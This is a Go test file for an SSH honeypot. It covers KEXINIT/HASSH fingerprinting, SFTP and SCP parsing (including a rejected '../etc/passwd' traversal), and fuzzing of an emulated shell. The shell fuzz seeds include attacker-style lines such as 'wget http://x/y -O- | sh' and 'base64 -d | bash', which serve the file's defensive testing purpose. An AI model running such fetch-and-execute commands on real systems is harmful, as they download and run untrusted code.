package sshpot

import (
	"bytes"
	"encoding/binary"
	"strings"
	"testing"
	"time"

	"github.com/vallum/vallum/internal/sensor"
)

// kexinitPacket frames a KEXINIT payload the way a client sends it, after
// its version line.
func kexinitPacket(version string, lists []string) []byte {
	payload := []byte{msgKexInit}
	payload = append(payload, make([]byte, 16)...)
	for _, l := range lists {
		payload = binary.BigEndian.AppendUint32(payload, uint32(len(l)))
		payload = append(payload, l...)
	}
	payload = append(payload, 0, 0, 0, 0, 0)
	pad := 8 - (5+len(payload))%8
	if pad < 4 {
		pad += 8
	}
	pkt := binary.BigEndian.AppendUint32(nil, uint32(1+len(payload)+pad))
	pkt = append(pkt, byte(pad))
	pkt = append(pkt, payload...)
	pkt = append(pkt, make([]byte, pad)...)
	return append([]byte(version+"\r\n"), pkt...)
}

var openSSHLists = []string{
	"curve25519-sha256,curve25519-sha256@libssh.org,ext-info-c", "ssh-ed25519,rsa-sha2-512",
	"chacha20-poly1305@openssh.com,aes128-ctr", "chacha20-poly1305@openssh.com,aes128-ctr",
	"umac-64-etm@openssh.com,hmac-sha2-256", "umac-64-etm@openssh.com,hmac-sha2-256",
	"none,zlib@openssh.com", "none,zlib@openssh.com", "", "",
}

func TestKexSnifferHASSH(t *testing.T) {
	stream := kexinitPacket("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3", openSSHLists)
	stream = append(stream, []byte("anything after the KEXINIT")...)
	// Fed in one piece and byte by byte, with a pre-version line.
	for _, chunk := range []int{len(stream) + 7, 1, 3} {
		var s kexSniffer
		in := append([]byte("a banner line\r\n"), stream...)
		for len(in) > 0 {
			n := min(chunk, len(in))
			s.feed(in[:n])
			in = in[n:]
		}
		if s.kex == nil {
			t.Fatalf("chunks of %d: no KEXINIT: %v", chunk, s.err)
		}
		hash, algos := s.kex.HASSH()
		wantAlgos := "curve25519-sha256,curve25519-sha256@libssh.org,ext-info-c;chacha20-poly1305@openssh.com,aes128-ctr;umac-64-etm@openssh.com,hmac-sha2-256;none,zlib@openssh.com"
		if algos != wantAlgos {
			t.Errorf("algorithms %q, want %q", algos, wantAlgos)
		}
		// printf '%s' "$wantAlgos" | md5sum
		if hash != "13221bde16602b5bdf4af8ded2399a06" {
			t.Errorf("hassh %s", hash)
		}
		if s.buf != nil {
			t.Error("the sniffer kept its buffer")
		}
	}
}

func TestKexSnifferRejects(t *testing.T) {
	for name, in := range map[string][]byte{
		"huge packet":    append([]byte("SSH-2.0-x\r\n"), 0x7f, 0xff, 0xff, 0xff),
		"long version":   bytes.Repeat([]byte("A"), 300),
		"not a KEXINIT":  append([]byte("SSH-2.0-x\r\n\x00\x00\x00\x18\x04\x15"), make([]byte, 22)...),
		"truncated list": append(append([]byte("SSH-2.0-x\r\n\x00\x00\x00\x1c\x04\x14"), make([]byte, 16)...), 0xff, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7),
	} {
		var s kexSniffer
		s.feed(in)
		if s.kex != nil {
			t.Errorf("%s: parsed %+v", name, s.kex)
		}
	}
}

func FuzzKexInit(f *testing.F) {
	f.Add(kexinitPacket("SSH-2.0-OpenSSH_9.2", openSSHLists), 1)
	f.Add(kexinitPacket("SSH-2.0-libssh_0.10.4", []string{"a", "b", "c", "d", "e", "f", "g", "h", "i", "j"}), 5)
	f.Add([]byte("SSH-2.0-x\r\n\x00\x00\x00\x0c\x04\x14"), 2)
	f.Fuzz(func(t *testing.T, in []byte, chunk int) {
		var whole, pieces kexSniffer
		whole.feed(in)
		chunk = max(1, chunk%64)
		for rest := in; len(rest) > 0; {
			n := min(chunk, len(rest))
			pieces.feed(rest[:n])
			rest = rest[n:]
		}
		if (whole.kex == nil) != (pieces.kex == nil) || whole.done() != pieces.done() {
			t.Fatalf("chunking changed the result: %v/%v", whole.err, pieces.err)
		}
		if whole.kex != nil {
			h1, a1 := whole.kex.HASSH()
			h2, a2 := pieces.kex.HASSH()
			if h1 != h2 || a1 != a2 {
				t.Fatal("chunking changed the fingerprint")
			}
		}
		if len(whole.buf) > 4+maxKexInit {
			t.Fatalf("buffer grew to %d", len(whole.buf))
		}
		if len(in) > 0 {
			ParseKexInit(in)
		}
	})
}

func sftpBody(typ byte, fields ...any) []byte {
	b := []byte{typ}
	for _, f := range fields {
		switch v := f.(type) {
		case uint32:
			b = binary.BigEndian.AppendUint32(b, v)
		case uint64:
			b = binary.BigEndian.AppendUint64(b, v)
		case string:
			b = appendString(b, v)
		}
	}
	return b
}

func TestParseSFTPPacket(t *testing.T) {
	p, err := parseSFTPPacket(sftpBody(sftpWrite, uint32(7), "h1", uint64(32768), "data"))
	if err != nil || p.id != 7 || p.path != "h1" || p.offset != 32768 || string(p.data) != "data" {
		t.Errorf("write: %+v %v", p, err)
	}
	p, err = parseSFTPPacket(sftpBody(sftpOpen, uint32(3), "/tmp/x", uint32(0x1a), uint32(attrPermissions), uint32(0o644)))
	if err != nil || p.path != "/tmp/x" || p.pflags != 0x1a || p.attrs.perm != 0o644 {
		t.Errorf("open: %+v %v", p, err)
	}
	for name, b := range map[string][]byte{
		"empty":          {},
		"short id":       {sftpWrite, 0, 0},
		"string too big": sftpBody(sftpStat, uint32(1), uint32(1000)),
		"short offset":   sftpBody(sftpRead, uint32(1), "h", uint32(1)),
		"attrs cut":      sftpBody(sftpMkdir, uint32(1), "/d", uint32(attrSize)),
	} {
		if _, err := parseSFTPPacket(b); err == nil {
			t.Errorf("%s: parsed", name)
		}
	}
}

func FuzzSFTPPacket(f *testing.F) {
	f.Add(sftpBody(sftpInit, uint32(3)))
	f.Add(sftpBody(sftpOpen, uint32(1), "/tmp/x", uint32(0x1a), uint32(attrExtended), uint32(1), "a", "b"))
	f.Add(sftpBody(sftpWrite, uint32(2), "1", uint64(0), "payload"))
	f.Add(sftpBody(sftpRename, uint32(3), "/a", "/b"))
	f.Fuzz(func(t *testing.T, b []byte) {
		p, err := parseSFTPPacket(b)
		if err == nil && len(p.data) > len(b) {
			t.Fatal("data longer than the packet")
		}
	})
}

func TestParseSCPHeader(t *testing.T) {
	tests := []struct {
		line string
		want scpHeader
		ok   bool
	}{
		{"C0644 100000 bot.bin", scpHeader{'C', 0o644, 100000, "bot.bin"}, true},
		{"D0755 0 dir", scpHeader{'D', 0o755, 0, "dir"}, true},
		{"E", scpHeader{kind: 'E'}, true},
		{"T1700000000 0 1700000000 0", scpHeader{kind: 'T'}, true},
		{"C0644 10 ../etc/passwd", scpHeader{}, false},
		{"C0644 10 ..", scpHeader{}, false},
		{"C0644 -1 x", scpHeader{}, false},
		{"C999 1 x", scpHeader{}, false},
		{"C0644 99999999999999999999 x", scpHeader{}, false},
		{"Cxxxx 1 x", scpHeader{}, false},
		{"T1 2 3", scpHeader{}, false},
		{"Q", scpHeader{}, false},
	}
	for _, tt := range tests {
		got, err := parseSCPHeader(tt.line)
		if (err == nil) != tt.ok || got != tt.want {
			t.Errorf("parseSCPHeader(%q) = %+v, %v; want %+v ok=%v", tt.line, got, err, tt.want, tt.ok)
		}
	}
}

func FuzzSCPHeader(f *testing.F) {
	for _, s := range []string{"C0644 12 x", "D0755 0 d", "E", "T1 0 2 0", "C0644 1 a b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		h, err := parseSCPHeader(line)
		if err != nil {
			return
		}
		if h.size < 0 || strings.ContainsRune(h.name, '/') || h.name == ".." {
			t.Fatalf("accepted %q as %+v", line, h)
		}
	})
}

// testShell is a shell of a honeypot built with cfg, as root unless user
// says otherwise.
func testShell(t testing.TB, user string) *shell {
	t.Helper()
	cfg := Config{}.withDefaults()
	p := personas[cfg.Persona]
	users := []userInfo{{name: "root", home: "/root"}, {name: "ubuntu", uid: 1000, gid: 1000, home: "/home/ubuntu"}}
	now := func() time.Time { return time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC) }
	h := &host{cfg: cfg, persona: p, base: buildBase(cfg, p, users), users: users, boot: now().Add(-50 * time.Hour), now: now}
	sh := newShell(h, user, sensor.Endpoint{IP: "203.0.113.9", Port: 4444}, "", "")
	sh.download = func(string, string) {}
	return sh
}

func FuzzShellLine(f *testing.F) {
	for _, s := range []string{
		"uname -a; id && cat /etc/passwd | grep root || echo no",
		`echo "a $(echo b) c" 'd' \e > /tmp/x; cat /tmp/x`,
		"cd /tmp; wget http://x/y -O- | sh",
		"echo `echo hi` ${HOME:-x} $? $$",
		"awk -F: '{print $1, $NF}' /etc/passwd | sort | uniq -c | head -n 3",
		"echo aGkK | base64 -d | bash",
		`for i in 1 2; do echo $i; done`,
		"ls -la /root /nonexistent 2>&1 > /dev/null",
	} {
		f.Add(s)
	}
	sh := testShell(f, "root")
	f.Fuzz(func(t *testing.T, line string) {
		if _, err := parseLine(line); err != nil {
			return
		}
		sh.exited = false
		out := sh.run(line)
		if len(out) > maxCommandOutput {
			t.Fatalf("output of %d bytes", len(out))
		}
		if len(sh.fs.overlay) > maxOverlayNodes || sh.fs.bytes > maxOverlayBytes {
			t.Fatal("overlay over its bounds")
		}
	})
}
